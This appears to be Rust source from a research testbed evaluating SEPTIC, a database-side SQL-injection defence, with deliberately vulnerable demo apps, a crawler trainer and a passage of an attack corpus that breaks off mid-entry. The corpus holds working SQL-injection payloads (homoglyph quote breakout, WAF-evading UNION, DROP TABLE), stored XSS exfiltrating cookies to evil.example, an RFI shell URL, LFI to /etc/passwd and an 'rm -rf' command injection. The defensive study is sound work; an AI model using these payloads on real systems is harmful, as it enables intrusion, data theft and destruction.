                    format!(
                        "/* qid:rb-search */ SELECT author, title, year FROM refs \
                         WHERE author LIKE '%{author}%' ORDER BY cited DESC"
                    )
                };
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Results",
                        &html_table(&["author", "title", "year"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/stats.php") => {
                match conn.query(
                    "/* qid:rb-stats */ SELECT year, COUNT(*), AVG(cited) FROM refs \
                     GROUP BY year ORDER BY year",
                ) {
                    Ok(out) => HttpResponse::ok(page(
                        "Statistics",
                        &html_table(&["year", "records", "avg cited"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/import.php") => {
                let author = req.param_or_empty("author").to_string();
                let title = req.param_or_empty("title").to_string();
                let year = intval(req.param_or_empty("year"));
                match conn.execute_prepared(
                    "INSERT INTO refs (author, title, year) VALUES (?, ?, ?)",
                    &[Value::from(author), Value::from(title), Value::Int(year)],
                ) {
                    Ok(_) => HttpResponse::ok(page("Imported", "record stored")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/cite.php") => {
                let id = intval(req.param_or_empty("record"));
                let sql =
                    format!("/* qid:rb-cite */ UPDATE refs SET cited = cited + 1 WHERE id = {id}");
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Cited", "count bumped")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/css/refbase.css") => {
                HttpResponse::ok(".record { padding: 2px; }".repeat(8))
            }
            (Method::Get, "/img/logo.gif") => HttpResponse::ok("GIF89a-logo".repeat(24)),
            _ => HttpResponse::error(Status::NotFound, "not found"),
        }
    }

    fn routes(&self) -> Vec<RouteSpec> {
        vec![
            RouteSpec {
                method: Method::Get,
                path: "/",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/show.php",
                params: &[("record", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/search.php",
                params: &[("author", "Medeiros"), ("year", "2016")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/stats.php",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/import.php",
                params: &[
                    ("author", "Trainer, T."),
                    ("title", "Benign record"),
                    ("year", "2017"),
                ],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/cite.php",
                params: &[("record", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/css/refbase.css",
                params: &[],
                is_static: true,
            },
            RouteSpec {
                method: Method::Get,
                path: "/img/logo.gif",
                params: &[],
                is_static: true,
            },
        ]
    }

    /// The 14-request refbase workload of the paper's evaluation.
    fn workload(&self) -> Vec<HttpRequest> {
        vec![
            HttpRequest::get("/"),
            HttpRequest::get("/css/refbase.css"),
            HttpRequest::get("/img/logo.gif"),
            HttpRequest::get("/show.php").param("record", "1"),
            HttpRequest::get("/search.php").param("author", "Halfond"),
            HttpRequest::get("/search.php")
                .param("author", "Medeiros")
                .param("year", "2016"),
            HttpRequest::get("/stats.php"),
            HttpRequest::post("/import.php")
                .param("author", "Neves, N.")
                .param("title", "A new record")
                .param("year", "2017"),
            HttpRequest::get("/"),
            HttpRequest::get("/show.php").param("record", "2"),
            HttpRequest::post("/cite.php").param("record", "2"),
            HttpRequest::get("/show.php").param("record", "2"),
            HttpRequest::get("/search.php").param("author", "Su"),
            HttpRequest::get("/css/refbase.css"),
        ]
    }
}

fn to_strings(rows: &[Vec<Value>]) -> Vec<Vec<String>> {
    rows.iter()
        .map(|r| r.iter().map(Value::to_display_string).collect())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deployment::Deployment;
    use std::sync::Arc;

    #[test]
    fn workload_has_14_requests_and_succeeds() {
        let app = Refbase::new();
        assert_eq!(app.workload().len(), 14);
        let d = Deployment::new(Arc::new(app), None, None).unwrap();
        for req in Refbase::new().workload() {
            let resp = d.request(&req);
            assert!(resp.response.is_success(), "{req}: {}", resp.response.body);
        }
    }

    #[test]
    fn cite_increments() {
        let d = Deployment::new(Arc::new(Refbase::new()), None, None).unwrap();
        let before = d.request(&HttpRequest::get("/show.php").param("record", "1"));
        let _ = d.request(&HttpRequest::post("/cite.php").param("record", "1"));
        let after = d.request(&HttpRequest::get("/show.php").param("record", "1"));
        assert!(before.response.body.contains("42"));
        assert!(after.response.body.contains("43"));
    }
}
