//! Deployment wiring: browser → `[ModSecurity]` → application → MySQL(+
//! SEPTIC) — Figure 7 of the paper, as one object.

use std::sync::Arc;

use septic::Septic;
use septic_dbms::{Connection, DbError, Server};
use septic_http::{HttpRequest, HttpResponse, Status};
use septic_waf::{ModSecurity, WafDecision};

use crate::framework::WebApp;

/// Which layer answered a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AnsweredBy {
    /// ModSecurity blocked it with the given anomaly score.
    Waf { score: u32 },
    /// The application handled it (possibly seeing a DBMS/SEPTIC error).
    App,
}

/// A response annotated with the answering layer.
#[derive(Debug, Clone, PartialEq)]
pub struct DeploymentResponse {
    pub response: HttpResponse,
    pub answered_by: AnsweredBy,
}

impl DeploymentResponse {
    /// True when the WAF blocked the request.
    #[must_use]
    pub fn waf_blocked(&self) -> bool {
        matches!(self.answered_by, AnsweredBy::Waf { .. })
    }
}

/// The full demo stack.
pub struct Deployment {
    server: Arc<Server>,
    conn: Connection,
    app: Arc<dyn WebApp>,
    waf: Option<Arc<ModSecurity>>,
    septic: Option<Arc<Septic>>,
}

impl Deployment {
    /// Stands up a fresh deployment: new DBMS, installed application
    /// schema, optional WAF, optional SEPTIC guard.
    ///
    /// # Errors
    ///
    /// Propagates schema installation failures.
    pub fn new(
        app: Arc<dyn WebApp>,
        waf: Option<Arc<ModSecurity>>,
        septic: Option<Arc<Septic>>,
    ) -> Result<Self, DbError> {
        let server = Server::new();
        let conn = server.connect();
        app.install(&conn)?;
        if let Some(s) = &septic {
            server.install_guard(s.clone());
        }
        Ok(Deployment {
            server,
            conn,
            app,
            waf,
            septic,
        })
    }

    /// Routes one request through the stack.
    #[must_use]
    pub fn request(&self, req: &HttpRequest) -> DeploymentResponse {
        if let Some(waf) = &self.waf {
            if let WafDecision::Blocked { score, .. } = waf.inspect(req) {
                return DeploymentResponse {
                    response: HttpResponse::error(Status::Forbidden, "Forbidden (ModSecurity)"),
                    answered_by: AnsweredBy::Waf { score },
                };
            }
        }
        // Every deployment serves a site map at `/forms` — the entry page
        // the crawler-style trainer navigates from.
        if req.path == "/forms" && req.method == septic_http::Method::Get {
            return DeploymentResponse {
                response: HttpResponse::ok(crate::framework::site_map(
                    self.app.name(),
                    &self.app.routes(),
                )),
                answered_by: AnsweredBy::App,
            };
        }
        DeploymentResponse {
            response: self.app.handle(req, &self.conn),
            answered_by: AnsweredBy::App,
        }
    }

    /// The DBMS server (for log inspection and direct queries in tests).
    #[must_use]
    pub fn server(&self) -> &Arc<Server> {
        &self.server
    }

    /// A database connection (the application's own).
    #[must_use]
    pub fn connection(&self) -> &Connection {
        &self.conn
    }

    /// The application.
    #[must_use]
    pub fn app(&self) -> &Arc<dyn WebApp> {
        &self.app
    }

    /// The WAF, when deployed.
    #[must_use]
    pub fn waf(&self) -> Option<&Arc<ModSecurity>> {
        self.waf.as_ref()
    }

    /// SEPTIC, when deployed.
    #[must_use]
    pub fn septic(&self) -> Option<&Arc<Septic>> {
        self.septic.as_ref()
    }
}

impl std::fmt::Debug for Deployment {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Deployment")
            .field("app", &self.app.name())
            .field("waf", &self.waf.is_some())
            .field("septic", &self.septic.is_some())
            .finish_non_exhaustive()
    }
}
