//! PHP sanitization-function semantics, reproduced bit-for-bit for the
//! functions the demo applications call.
//!
//! The crucial property (the paper's phase IV-A): these functions operate
//! on **bytes/ASCII characters**. `mysql_real_escape_string` escapes the
//! ASCII quote `'` (0x27) but has no idea that `U+02BC` will be folded
//! into a quote by the DBMS's charset conversion — the semantic mismatch
//! in one line.

/// PHP `mysql_real_escape_string` / `mysqli_real_escape_string`: prefixes
/// `\0`, `\n`, `\r`, `\`, `'`, `"` and Ctrl-Z with a backslash.
#[must_use]
pub fn mysql_real_escape_string(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '\0' => out.push_str("\\0"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '"' => out.push_str("\\\""),
            '\u{1a}' => out.push_str("\\Z"),
            other => out.push(other),
        }
    }
    out
}

/// PHP `addslashes`: quotes `'`, `"`, `\` and NUL.
#[must_use]
pub fn addslashes(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\0' => out.push_str("\\0"),
            other => out.push(other),
        }
    }
    out
}

/// PHP `stripslashes`.
#[must_use]
pub fn stripslashes(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let mut chars = input.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('0') => out.push('\0'),
                Some(other) => out.push(other),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Quote handling flavour for [`htmlspecialchars`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EntQuotes {
    /// `ENT_COMPAT`: double quotes only (the PHP 5 default the demo apps
    /// were written against).
    Compat,
    /// `ENT_QUOTES`: both quote kinds.
    Quotes,
}

/// PHP `htmlspecialchars`.
#[must_use]
pub fn htmlspecialchars(input: &str, flags: EntQuotes) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' if flags == EntQuotes::Quotes => out.push_str("&#039;"),
            other => out.push(other),
        }
    }
    out
}

/// PHP `intval`: parses a leading optional-sign integer, ignoring leading
/// whitespace; anything else yields 0.
#[must_use]
pub fn intval(input: &str) -> i64 {
    let t = input.trim_start();
    let bytes = t.as_bytes();
    let mut end = 0;
    if end < bytes.len() && (bytes[end] == b'+' || bytes[end] == b'-') {
        end += 1;
    }
    let digits_start = end;
    while end < bytes.len() && bytes[end].is_ascii_digit() {
        end += 1;
    }
    if end == digits_start {
        return 0;
    }
    t[..end].parse::<i64>().unwrap_or(i64::MAX)
}

/// PHP `is_numeric` (the subset relevant to the apps: int/float with
/// optional exponent, leading whitespace allowed, no trailing junk).
#[must_use]
pub fn is_numeric(input: &str) -> bool {
    let t = input.trim_start();
    !t.is_empty() && t.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn real_escape_string_handles_ascii_metacharacters() {
        assert_eq!(mysql_real_escape_string("O'Neil"), "O\\'Neil");
        assert_eq!(mysql_real_escape_string(r#"a"b\c"#), "a\\\"b\\\\c");
        assert_eq!(
            mysql_real_escape_string("a\nb\rc\0d\u{1a}e"),
            "a\\nb\\rc\\0d\\Ze"
        );
    }

    #[test]
    fn real_escape_string_misses_the_homoglyph() {
        // The semantic mismatch: U+02BC passes through untouched.
        let payload = "ID34FG\u{02BC}-- ";
        assert_eq!(mysql_real_escape_string(payload), payload);
    }

    #[test]
    fn addslashes_and_stripslashes_round_trip() {
        let s = "it's \"quoted\" \\ and\0null";
        assert_eq!(stripslashes(&addslashes(s)), s);
    }

    #[test]
    fn htmlspecialchars_flavours() {
        assert_eq!(
            htmlspecialchars("<a href=\"x\">", EntQuotes::Compat),
            "&lt;a href=&quot;x&quot;&gt;"
        );
        assert_eq!(htmlspecialchars("it's", EntQuotes::Compat), "it's");
        assert_eq!(htmlspecialchars("it's", EntQuotes::Quotes), "it&#039;s");
        assert_eq!(htmlspecialchars("a&b", EntQuotes::Compat), "a&amp;b");
    }

    #[test]
    fn intval_semantics() {
        assert_eq!(intval("42"), 42);
        assert_eq!(intval("  -7 days"), -7);
        assert_eq!(intval("12abc"), 12);
        assert_eq!(intval("abc"), 0);
        assert_eq!(intval(""), 0);
        assert_eq!(intval("+5"), 5);
        // The injection-relevant fact: intval crushes payloads to a number.
        assert_eq!(intval("1 OR 1=1"), 1);
    }

    #[test]
    fn is_numeric_shapes() {
        assert!(is_numeric("3.5"));
        assert!(is_numeric(" 1e3"));
        assert!(!is_numeric("1 OR 1=1"));
        assert!(!is_numeric(""));
        assert!(!is_numeric("12abc"));
    }
}
