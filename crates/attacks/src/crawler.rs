//! The HTML-navigating trainer — the faithful rendition of the paper's
//! *septic training module*: "It works like a crawler, navigating in the
//! application looking for forms, to then inject benign inputs that
//! eventually are inserted in queries transmitted to MySQL."
//!
//! Unlike [`crate::trainer`] (which reads route metadata directly), this
//! module discovers entry points the way the real tool does: it fetches
//! pages, extracts `<a href>` links and `<form>` elements with their
//! `<input>` fields, follows the links breadth-first and submits every
//! discovered form with its benign default values.

use std::collections::{HashSet, VecDeque};

use septic_http::{HttpRequest, Method};
use septic_webapp::deployment::Deployment;

/// A form discovered in a page.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiscoveredForm {
    pub method: Method,
    pub action: String,
    /// `(name, default value)` pairs from the form's inputs.
    pub fields: Vec<(String, String)>,
}

impl DiscoveredForm {
    /// Builds the submission request with the form's default values.
    #[must_use]
    pub fn submit_request(&self) -> HttpRequest {
        let mut req = match self.method {
            Method::Get => HttpRequest::get(self.action.clone()),
            Method::Post => HttpRequest::post(self.action.clone()),
        };
        for (name, value) in &self.fields {
            req = req.param(name, value);
        }
        req
    }
}

/// Extracts the `href` targets of `<a>` elements (site-local only).
#[must_use]
pub fn extract_links(html: &str) -> Vec<String> {
    let mut links = Vec::new();
    for tag in scan_tags(html) {
        if tag.name != "a" {
            continue;
        }
        if let Some(href) = tag.attr("href") {
            if href.starts_with('/') {
                links.push(href.to_string());
            }
        }
    }
    links
}

/// Extracts forms and their input fields.
#[must_use]
pub fn extract_forms(html: &str) -> Vec<DiscoveredForm> {
    let tags = scan_tags(html);
    let mut forms = Vec::new();
    let mut current: Option<DiscoveredForm> = None;
    for tag in tags {
        match tag.name.as_str() {
            "form" => {
                if let Some(done) = current.take() {
                    forms.push(done);
                }
                let method = match tag.attr("method").unwrap_or("get").to_lowercase().as_str() {
                    "post" => Method::Post,
                    _ => Method::Get,
                };
                current = Some(DiscoveredForm {
                    method,
                    action: tag.attr("action").unwrap_or("/").to_string(),
                    fields: Vec::new(),
                });
            }
            "/form" => {
                if let Some(done) = current.take() {
                    forms.push(done);
                }
            }
            "input" => {
                if let Some(form) = &mut current {
                    if tag.attr("type").unwrap_or("text") != "submit" {
                        if let Some(name) = tag.attr("name") {
                            form.fields.push((
                                name.to_string(),
                                tag.attr("value").unwrap_or("").to_string(),
                            ));
                        }
                    }
                }
            }
            _ => {}
        }
    }
    if let Some(done) = current.take() {
        forms.push(done);
    }
    forms
}

/// Crawl report.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CrawlReport {
    pub pages_visited: usize,
    pub forms_submitted: usize,
    pub failures: usize,
}

/// Breadth-first crawl from the given start paths: fetch, extract links
/// and forms, follow links (each page once), submit each distinct form
/// `repeats` times with its benign defaults.
#[must_use]
pub fn crawl_html(deployment: &Deployment, starts: &[&str], repeats: usize) -> CrawlReport {
    let mut report = CrawlReport::default();
    let mut queue: VecDeque<String> = starts.iter().map(ToString::to_string).collect();
    let mut visited: HashSet<String> = HashSet::new();
    let mut submitted: HashSet<String> = HashSet::new();
    while let Some(path) = queue.pop_front() {
        if !visited.insert(path.clone()) {
            continue;
        }
        let response = deployment.request(&HttpRequest::get(path));
        report.pages_visited += 1;
        if !response.response.is_success() {
            report.failures += 1;
            continue;
        }
        let html = &response.response.body;
        for link in extract_links(html) {
            if !visited.contains(&link) {
                queue.push_back(link);
            }
        }
        for form in extract_forms(html) {
            let key = format!("{} {}", form.method, form.action);
            if !submitted.insert(key) {
                continue;
            }
            for _ in 0..repeats.max(1) {
                let resp = deployment.request(&form.submit_request());
                report.forms_submitted += 1;
                if resp.response.is_success() {
                    // Result pages may link onwards (a bare visit to the
                    // form's action would lack its required parameters).
                    for link in extract_links(&resp.response.body) {
                        if !visited.contains(&link) {
                            queue.push_back(link);
                        }
                    }
                } else {
                    report.failures += 1;
                }
            }
        }
    }
    report
}

// ---- minimal tag scanner ---------------------------------------------

#[derive(Debug)]
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

impl Tag {
    fn attr(&self, name: &str) -> Option<&str> {
        self.attrs
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }
}

fn scan_tags(html: &str) -> Vec<Tag> {
    let chars: Vec<char> = html.chars().collect();
    let mut tags = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '<' {
            i += 1;
            continue;
        }
        i += 1;
        let mut name = String::new();
        if i < chars.len() && chars[i] == '/' {
            name.push('/');
            i += 1;
        }
        while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '-') {
            name.push(chars[i].to_ascii_lowercase());
            i += 1;
        }
        if name.is_empty() || name == "/" {
            continue;
        }
        let mut attrs = Vec::new();
        while i < chars.len() && chars[i] != '>' {
            while i < chars.len() && (chars[i].is_whitespace() || chars[i] == '/') {
                i += 1;
            }
            if i >= chars.len() || chars[i] == '>' {
                break;
            }
            let mut attr_name = String::new();
            while i < chars.len() && !chars[i].is_whitespace() && chars[i] != '=' && chars[i] != '>'
            {
                attr_name.push(chars[i].to_ascii_lowercase());
                i += 1;
            }
            let mut value = String::new();
            while i < chars.len() && chars[i].is_whitespace() {
                i += 1;
            }
            if i < chars.len() && chars[i] == '=' {
                i += 1;
                while i < chars.len() && chars[i].is_whitespace() {
                    i += 1;
                }
                if i < chars.len() && (chars[i] == '"' || chars[i] == '\'') {
                    let quote = chars[i];
                    i += 1;
                    while i < chars.len() && chars[i] != quote {
                        value.push(chars[i]);
                        i += 1;
                    }
                    i += 1;
                } else {
                    while i < chars.len() && !chars[i].is_whitespace() && chars[i] != '>' {
                        value.push(chars[i]);
                        i += 1;
                    }
                }
            }
            if !attr_name.is_empty() {
                attrs.push((attr_name, value));
            }
        }
        i += 1;
        tags.push(Tag { name, attrs });
    }
    tags
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    use septic::{Mode, Septic};
    use septic_webapp::WaspMon;

    #[test]
    fn extracts_links_and_forms() {
        let html = r#"<html><body>
            <a href="/devices">devices</a>
            <a href="https://external.example/x">ext</a>
            <form action="/login" method="post">
              <input type="text" name="user" value="alice">
              <input type="text" name="pass" value="pw">
              <input type="submit">
            </form>
        </body></html>"#;
        assert_eq!(extract_links(html), vec!["/devices".to_string()]);
        let forms = extract_forms(html);
        assert_eq!(forms.len(), 1);
        assert_eq!(forms[0].method, Method::Post);
        assert_eq!(forms[0].action, "/login");
        assert_eq!(
            forms[0].fields,
            vec![
                ("user".into(), "alice".into()),
                ("pass".into(), "pw".into())
            ]
        );
        let req = forms[0].submit_request();
        assert_eq!(req.param_value("user"), Some("alice"));
    }

    #[test]
    fn html_crawler_trains_like_the_metadata_trainer() {
        // The crawler discovers what the route metadata declares, so a
        // crawl must learn the same query shapes the direct trainer does.
        let septic_meta = Arc::new(Septic::new());
        let d1 = Deployment::new(Arc::new(WaspMon::new()), None, Some(septic_meta.clone()))
            .expect("deploy");
        let _ = crate::trainer::train(&d1, &septic_meta, Mode::PREVENTION);

        let septic_crawl = Arc::new(Septic::new());
        let d2 = Deployment::new(Arc::new(WaspMon::new()), None, Some(septic_crawl.clone()))
            .expect("deploy");
        septic_crawl.set_mode(Mode::Training);
        let report = crawl_html(&d2, &["/forms", "/"], 2);
        septic_crawl.set_mode(Mode::PREVENTION);

        assert!(report.pages_visited >= 2, "{report:?}");
        assert!(report.forms_submitted > 10, "{report:?}");
        assert_eq!(report.failures, 0, "{report:?}");
        // Same models as the metadata-driven trainer.
        let mut a = septic_meta.store().ids();
        let mut b = septic_crawl.store().ids();
        a.sort_by_key(|id| (id.external.clone(), id.internal));
        b.sort_by_key(|id| (id.external.clone(), id.internal));
        assert_eq!(a, b);
    }

    #[test]
    fn crawl_is_idempotent_on_models() {
        let septic = Arc::new(Septic::new());
        let d =
            Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
        septic.set_mode(Mode::Training);
        let _ = crawl_html(&d, &["/forms"], 1);
        let n = septic.store().len();
        let _ = crawl_html(&d, &["/forms"], 2);
        assert_eq!(septic.store().len(), n);
    }
}
