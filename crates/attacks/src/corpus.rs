//! The attack corpus against WaspMon: every attack the demonstration runs
//! in phases IV-A/B/D, each with an executable request sequence and a
//! ground-truth oracle for "did the malicious effect actually happen".

use septic_dbms::Value;
use septic_http::HttpRequest;
use septic_webapp::deployment::{Deployment, DeploymentResponse};
use septic_webapp::WaspMon;

use crate::taxonomy::AttackClass;

/// One attack: an executable request sequence plus a success oracle.
///
/// `execute` sends the attack's requests (setup steps first, trigger
/// last); `succeeded` checks the deployment for the malicious effect —
/// by probing through the application or by inspecting storage directly
/// (ground truth, outside any protection layer).
#[derive(Debug, Clone, Copy)]
pub struct AttackSpec {
    pub id: &'static str,
    pub name: &'static str,
    pub class: AttackClass,
    pub description: &'static str,
    pub execute: fn(&Deployment) -> Vec<DeploymentResponse>,
    pub succeeded: fn(&Deployment) -> bool,
}

/// The full corpus, in demo order.
#[must_use]
pub fn corpus() -> Vec<AttackSpec> {
    vec![
        AttackSpec {
            id: "C1",
            name: "login quote tautology",
            class: AttackClass::ClassicSqli,
            description: "textbook `' OR '1'='1` — correctly neutralised by escaping",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/login")
                        .param("user", "admin' OR '1'='1")
                        .param("pass", "x"),
                )]
            },
            succeeded: |d| last_login_granted(d, "admin' OR '1'='1", "x"),
        },
        AttackSpec {
            id: "C2",
            name: "search quote UNION",
            class: AttackClass::ClassicSqli,
            description: "ASCII-quote UNION in /search — neutralised by escaping",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::get("/search")
                        .param("q", "%' UNION SELECT username, password FROM users-- "),
                )]
            },
            succeeded: |d| {
                let r = d.request(
                    &HttpRequest::get("/search")
                        .param("q", "%' UNION SELECT username, password FROM users-- "),
                );
                r.response
                    .body
                    .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
            },
        },
        AttackSpec {
            id: "S1",
            name: "numeric-context tautology (textbook)",
            class: AttackClass::NumericContext,
            description: "`days=0 OR 1=1` dumps every device's readings",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::get("/history")
                        .param("device", "zzz-no-such")
                        .param("days", "0 OR 1=1"),
                )]
            },
            succeeded: |d| {
                let r = d.request(
                    &HttpRequest::get("/history")
                        .param("device", "zzz-no-such")
                        .param("days", "0 OR 1=1"),
                );
                r.response.body.contains("800")
            },
        },
        AttackSpec {
            id: "S2",
            name: "numeric-context tautology (no literal pattern)",
            class: AttackClass::NumericContext,
            description: "`days=0 OR watts > 0` — no `N=N` shape for the WAF to see",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::get("/history")
                        .param("device", "zzz-no-such")
                        .param("days", "0 OR watts > 0"),
                )]
            },
            succeeded: |d| {
                let r = d.request(
                    &HttpRequest::get("/history")
                        .param("device", "zzz-no-such")
                        .param("days", "0 OR watts > 0"),
                );
                r.response.body.contains("800")
            },
        },
        AttackSpec {
            id: "S3",
            name: "homoglyph UNION (plain keywords)",
            class: AttackClass::HomoglyphFirstOrder,
            description: "U+02BC breaks out of the string; plain UNION SELECT exfiltrates",
            execute: |d| vec![d.request(&homoglyph_union_request(false))],
            succeeded: |d| {
                let r = d.request(&homoglyph_union_request(false));
                r.response
                    .body
                    .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
            },
        },
        AttackSpec {
            id: "S4",
            name: "homoglyph UNION (version-comment keywords)",
            class: AttackClass::HomoglyphFirstOrder,
            description: "keywords wrapped in /*!…*/ — erased from the WAF view, executed by MySQL",
            execute: |d| vec![d.request(&homoglyph_union_request(true))],
            succeeded: |d| {
                let r = d.request(&homoglyph_union_request(true));
                r.response
                    .body
                    .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
            },
        },
        AttackSpec {
            id: "S5",
            name: "login mimicry (numeric tautology)",
            class: AttackClass::SyntaxMimicry,
            description: "`admin U+02BC AND 1=1-- ` reproduces the learned arity",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/login")
                        .param("user", "admin\u{02BC} AND 1=1-- ")
                        .param("pass", "whatever"),
                )]
            },
            succeeded: |d| last_login_granted(d, "admin\u{02BC} AND 1=1-- ", "whatever"),
        },
        AttackSpec {
            id: "S6",
            name: "login mimicry (homoglyph string tautology)",
            class: AttackClass::SyntaxMimicry,
            description: "string tautology quoted entirely with U+02BC — nothing for the WAF",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/login")
                        .param(
                            "user",
                            "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ",
                        )
                        .param("pass", "whatever"),
                )]
            },
            succeeded: |d| {
                last_login_granted(
                    d,
                    "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ",
                    "whatever",
                )
            },
        },
        AttackSpec {
            id: "S7",
            name: "second-order export (plain keywords)",
            class: AttackClass::SecondOrder,
            description: "bomb stored via prepared INSERT, detonates in legacy /export",
            execute: |d| second_order(d, false),
            succeeded: |d| second_order_leaked(d, "SO-PLAIN"),
        },
        AttackSpec {
            id: "S8",
            name: "second-order export (version-comment keywords)",
            class: AttackClass::SecondOrder,
            description: "as S7 with /*!…*/-hidden keywords — invisible to the WAF at store time",
            execute: |d| second_order(d, true),
            succeeded: |d| second_order_leaked(d, "SO-VC"),
        },
        AttackSpec {
            id: "S10",
            name: "schema enumeration via information_schema",
            class: AttackClass::HomoglyphFirstOrder,
            description: "homoglyph breakout + UNION over information_schema.columns \
                          (the recon step before a targeted exfiltration)",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::get("/history")
                        .param(
                            "device",
                            "zz\u{02BC} UNION SELECT table_name, column_name \
                     FROM information_schema.columns-- ",
                        )
                        .param("days", "0"),
                )]
            },
            succeeded: |d| {
                let r = d.request(
                    &HttpRequest::get("/history")
                        .param(
                            "device",
                            "zz\u{02BC} UNION SELECT table_name, column_name \
                     FROM information_schema.columns-- ",
                        )
                        .param("days", "0"),
                );
                // The schema leaks: column names of the users table appear.
                r.response.body.contains("password") && r.response.body.contains("users")
            },
        },
        AttackSpec {
            id: "S9",
            name: "piggybacked DROP TABLE",
            class: AttackClass::Piggyback,
            description: "`days=0; DROP TABLE readings-- ` stacks a destructive statement",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::get("/history")
                        .param("device", "Kitchen Meter")
                        .param("days", "0; DROP TABLE readings-- "),
                )]
            },
            succeeded: |d| !d.server().with_db(|db| db.has_table("readings")),
        },
        AttackSpec {
            id: "X1",
            name: "stored XSS (script tag)",
            class: AttackClass::StoredXss,
            description: "the paper's Section II-D2 example payload",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/notes/add")
                        .param("device_id", "1")
                        .param("body", "<script>alert('Hello!');</script>")
                        .param("author", "mallory"),
                )]
            },
            succeeded: |d| notes_render_contains(d, "<script>"),
        },
        AttackSpec {
            id: "X2",
            name: "stored XSS (exotic event handler)",
            class: AttackClass::StoredXss,
            description: "`<details open ontoggle=…>` — outside the WAF's handler list",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/notes/add")
                        .param("device_id", "1")
                        .param("body", "<details open ontoggle=alert(document.cookie)>")
                        .param("author", "mallory"),
                )]
            },
            succeeded: |d| notes_render_contains(d, "ontoggle"),
        },
        AttackSpec {
            id: "X3",
            name: "stored XSS (img onerror)",
            class: AttackClass::StoredXss,
            description: "classic image-error handler",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/notes/add")
                        .param("device_id", "1")
                        .param("body", "<img src=x onerror=alert(1)>")
                        .param("author", "mallory"),
                )]
            },
            succeeded: |d| notes_render_contains(d, "onerror"),
        },
        AttackSpec {
            id: "X4",
            name: "stored XSS via UPDATE",
            class: AttackClass::StoredXss,
            description: "payload injected through the note-edit UPDATE path",
            execute: |d| {
                vec![
                    d.request(&HttpRequest::post("/notes/edit").param("id", "1").param(
                        "body",
                        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
                    )),
                ]
            },
            succeeded: |d| notes_render_contains(d, "onload"),
        },
        AttackSpec {
            id: "R1",
            name: "RFI collector URL",
            class: AttackClass::Rfi,
            description: "remote shell URL stored as a collector endpoint",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/collectors/add")
                        .param("url", "http://evil.example/shell.php?cmd=id"),
                )]
            },
            succeeded: |d| collectors_contain(d, "evil.example"),
        },
        AttackSpec {
            id: "R2",
            name: "LFI path traversal",
            class: AttackClass::Lfi,
            description: "collector pointed at /etc/passwd via traversal",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/collectors/add").param("url", "../../../../etc/passwd"),
                )]
            },
            succeeded: |d| collectors_contain(d, "etc/passwd"),
        },
        AttackSpec {
            id: "O1",
            name: "OSCI chained command",
            class: AttackClass::Osci,
            description: "`; rm -rf` in a note consumed by a maintenance script",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/notes/add")
                        .param("device_id", "1")
                        .param("body", "status ok; rm -rf /var/lib/wasp")
                        .param("author", "mallory"),
                )]
